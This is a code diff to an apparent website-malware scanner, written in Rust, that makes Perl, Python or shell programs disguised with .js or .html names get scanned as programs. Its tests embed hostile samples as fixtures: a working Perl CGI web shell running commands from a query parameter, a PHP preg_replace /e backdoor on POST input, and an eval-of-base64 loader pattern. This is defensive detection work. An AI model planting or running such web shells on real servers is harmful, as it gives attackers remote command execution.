@@ -395,6 +395,17 @@ fn is_program(name: &str) -> bool {
     extension(name).is_some_and(|e| PROGRAM_EXTENSIONS.contains(&e.as_str()))
 }
 
+/// A Perl, Python or shell program kept under a page's or a script's ending (`themes.js`
+/// starting `#!/usr/bin/perl`, run as CGI by a handler beside it): read as the program it is.
+/// (Node's own scripts start `#!/usr/bin/env node` and stay JavaScript.)
+fn foreign_program(name: &str, text: &[u8]) -> bool {
+    if !text.starts_with(b"#!") || !(is_js(name) || is_html(name)) {
+        return false;
+    }
+    let line = &text[..memchr::memchr(b'\n', text).unwrap_or(text.len()).min(128)];
+    [&b"perl"[..], b"python", b"/sh", b"bash"].iter().any(|w| memchr::memmem::find(line, w).is_some())
+}
+
 fn is_conf(name: &str) -> bool {
     matches!(name, ".htaccess" | ".user.ini" | "php.ini")
 }
@@ -491,7 +502,7 @@ fn content(name: &str, text: &[u8], own_domains: &[String], depth: Depth) -> (Ve
     }
     let defaced = || deface::claim(text).map(|at| taint::Sink { why: Why::Defacement, danger: Danger::High, at });
     let added_script = |i: script::Injection| taint::Sink { why: i.why, danger: i.danger, at: i.at };
-    if is_program(name) {
+    if is_program(name) || foreign_program(name, text) {
         let signs = programs::signs(text).into_iter();
         return (
             signs.map(|s| sink_hit(text, taint::Sink { why: s.why, danger: s.danger, at: s.at })).collect(),
@@ -743,6 +754,17 @@ mod tests {
         assert_eq!(whys("x.php", "<?php preg_replace('/.*/e', $_POST['c'], '');"), [Why::PregReplaceEval]);
         let blob = format!("<?php $x = gzinflate(base64_decode('{}')); eval($x);", "QUJD".repeat(400));
         assert_eq!(whys("x.php", &blob), [Why::EvalOfDecoded, Why::EncodedBlob]);
+    }
+
+    #[test]
+    fn a_program_kept_under_a_scripts_ending_is_read_as_one() {
+        // fresh28's themes.js: a Perl CGI shell run through a handler for `.js` beside it.
+        let cgi = "#!/usr/bin/perl\n%F = parse($ENV{'QUERY_STRING'});\n$cmd = $F{'cmd'};\n\
+                   open(CMD, \"($cmd) 2>&1 |\") || print 'failed';\nprint while (<CMD>);\n";
+        assert_eq!(whys("themes.js", cgi), [Why::ShellFromInput]);
+        // Node's own command-line scripts stay JavaScript.
+        let node = "#!/usr/bin/env node\nconst cp = require('child_process');\ncp.exec(process.argv[2]);\n";
+        assert!(whys("cli.js", node).is_empty());
     }
 
     #[test]
